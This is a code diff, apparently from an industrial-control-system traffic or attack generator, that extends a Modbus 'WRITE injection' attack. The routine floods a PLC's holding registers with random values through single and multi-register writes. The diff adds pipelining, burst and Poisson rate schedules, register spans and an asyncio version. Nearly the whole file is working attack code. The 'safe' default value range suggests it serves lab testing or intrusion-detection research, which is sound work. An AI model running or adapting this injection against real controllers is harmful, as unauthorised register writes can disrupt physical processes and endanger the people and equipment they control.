@@ -3,14 +3,30 @@
 import logging
 import random
 import time
-from typing import Optional
+from typing import List, Optional, Tuple
 
 from injector.core.config import PlcConfig, get_plc_config
-from injector.core.modbus import modbus_client
+from injector.core.modbus import PipelinedModbusClient, PipelinedResult, RequestBatcher, plan_writes
+from injector.core.metrics import endpoint_of, get_metrics
+from injector.core.scheduler import RateSchedule, current_name, get_scheduler, make_arrival
+from pymodbus.exceptions import ConnectionException
 
 log = logging.getLogger(__name__)
 
 
+def _tick_writes(target_register: int, span: int, value_min: int, value_max: int) -> List[Tuple[int, int]]:
+    """Zapisy jednego ticku: HR[target_register .. target_register+span-1], losowe wartości."""
+    return [(target_register + i, random.randint(value_min, value_max)) for i in range(max(1, span))]
+
+
+def _batcher(schedule: RateSchedule, cfg: PlcConfig, fold_fc16: bool) -> RequestBatcher:
+    endpoint = endpoint_of(cfg)
+    return RequestBatcher(allow_fc16=fold_fc16, series={
+        6: get_metrics().series(schedule.name, 6, endpoint),
+        16: get_metrics().series(schedule.name, 16, endpoint),
+    })
+
+
 def run_write_injection(
     cfg: Optional[PlcConfig] = None,
     stop_event=None,
@@ -18,11 +34,19 @@ def run_write_injection(
     qps: float = 5.0,
     value_min: Optional[int] = None,
     value_max: Optional[int] = None,
+    pipeline_window: int = 0,
+    arrival: str = "fixed",
+    span: int = 1,
+    fold_fc16: bool = False,
 ) -> None:
     """
     Atak typu WRITE injection:
     - wysyła FC6 (write_single_register) do wskazanego rejestru,
-    - z zadaną częstotliwością qps (queries per second).
+    - z zadaną częstotliwością qps (queries per second),
+      arrival: "fixed" | "jitter" | "poisson" | "burst" (injector.core.scheduler),
+    - pipeline_window > 0: zapisy idą przez PipelinedModbusClient (wiele FC6 w locie),
+    - span > 1: w każdym ticku zapis HR[target_register .. target_register+span-1];
+      fold_fc16=True wysyła go jednym FC16 (plan_writes), inaczej span razy FC6.
 
     Oczekuje, że zostanie wywołany jako thread z przekazanym stop_event.
     """
@@ -41,39 +65,121 @@ def run_write_injection(
     if value_min > value_max:
         value_min, value_max = value_max, value_min
 
-    period = 1.0 / qps if qps > 0 else 0.0
+    schedule = get_scheduler().register(current_name("WRITE_INJ"), make_arrival(arrival, qps))
 
     log.info(
-        "WRITE injection started: HR[%d], qps=%.2f, range=[%d, %d]",
+        "WRITE injection started: HR[%d], qps=%.2f (%s), range=[%d, %d], pipeline_window=%d, "
+        "span=%d, fold_fc16=%s",
         target_register,
         qps,
+        arrival,
         value_min,
         value_max,
+        pipeline_window,
+        span,
+        fold_fc16,
     )
 
-    while not stop_event.is_set():
-        value = random.randint(value_min, value_max)
+    if pipeline_window > 0:
+        _run_write_injection_pipelined(
+            cfg, stop_event, target_register, schedule, value_min, value_max, pipeline_window,
+            span, fold_fc16,
+        )
+        return
+
+    batcher = _batcher(schedule, cfg, fold_fc16)
+    while schedule.wait(stop_event):
+        writes = _tick_writes(target_register, span, value_min, value_max)
+        for addr, value in writes:
+            batcher.write(addr, value)
 
         try:
-            with modbus_client(cfg) as client:
-                rq = client.write_register(target_register, value, unit=cfg.unit_id)
-                if rq.isError():
-                    log.warning(
-                        "WRITE injection error writing HR[%d] = %d: %s",
-                        target_register,
-                        value,
-                        rq,
-                    )
-                else:
-                    log.info(
-                        "WRITE injection: wrote HR[%d] = %d",
-                        target_register,
-                        value,
-                    )
+            if not batcher.flush_pooled(cfg):
+                log.info("WRITE injection: wrote %s", ", ".join(f"HR[{a}] = {v}" for a, v in writes))
         except Exception as e:
             log.warning("WRITE injection: exception during write: %r", e)
 
-        if period > 0:
-            time.sleep(period)
-
+    log.info("WRITE injection batcher stats: %s", batcher.stats())
     log.info("WRITE injection: stop_event set, leaving loop")
+
+
+def _on_write_result(res: PipelinedResult) -> None:
+    if res.timed_out:
+        log.warning("WRITE injection timeout writing HR[%d]", res.address)
+    elif not res.ok:
+        log.warning("WRITE injection error writing HR[%d]: exception code %s",
+                    res.address, res.exception_code)
+    else:
+        log.debug("WRITE injection: wrote HR[%d]", res.address)
+
+
+def _run_write_injection_pipelined(
+    cfg: PlcConfig,
+    stop_event,
+    target_register: int,
+    schedule: RateSchedule,
+    value_min: int,
+    value_max: int,
+    window: int,
+    span: int = 1,
+    fold_fc16: bool = False,
+) -> None:
+    client = PipelinedModbusClient.from_cfg(cfg, window=window)
+    client.connect()
+    try:
+        while schedule.wait(stop_event):
+            writes = _tick_writes(target_register, span, value_min, value_max)
+            try:
+                for w in plan_writes(writes, allow_fc16=fold_fc16):
+                    if w.func == 16:
+                        client.write_registers(w.address, w.values, callback=_on_write_result)
+                    else:
+                        client.write_register(w.address, w.values[0], callback=_on_write_result)
+                client.poll(0.0)
+            except ConnectionException as e:
+                log.warning("WRITE injection: connection error: %s", e)
+                time.sleep(1.0)
+                client.reconnect()
+
+        client.drain(timeout=client.timeout_s)
+    finally:
+        log.info("WRITE injection pipelined stats: %s", client.stats())
+        client.close()
+        log.info("WRITE injection: stop_event set, leaving loop")
+
+
+async def write_injection_task(
+    client,
+    cfg: PlcConfig,
+    target_register: int = 2,
+    qps: float = 5.0,
+    value_min: Optional[int] = None,
+    value_max: Optional[int] = None,
+    arrival: str = "fixed",
+    span: int = 1,
+    fold_fc16: bool = False,
+) -> None:
+    """
+    Wersja asyncio WRITE injection dla AsyncTrafficEngine.
+    Kończy się przez anulowanie taska.
+    """
+    if value_min is None:
+        value_min = getattr(cfg, "safe_write_min", 0)
+    if value_max is None:
+        value_max = getattr(cfg, "safe_write_max", 1000)
+    if value_min > value_max:
+        value_min, value_max = value_max, value_min
+
+    schedule = get_scheduler().register(current_name("WRITE_INJ"), make_arrival(arrival, qps))
+    batcher = _batcher(schedule, cfg, fold_fc16)
+
+    while True:
+        await schedule.wait_async()
+        writes = _tick_writes(target_register, span, value_min, value_max)
+        for addr, value in writes:
+            batcher.write(addr, value)
+        try:
+            if not await batcher.flush_async(client, cfg.unit_id):
+                log.info("WRITE injection: wrote %s", ", ".join(f"HR[{a}] = {v}" for a, v in writes))
+        except Exception as e:
+            log.warning("WRITE injection: exception during write: %r", e)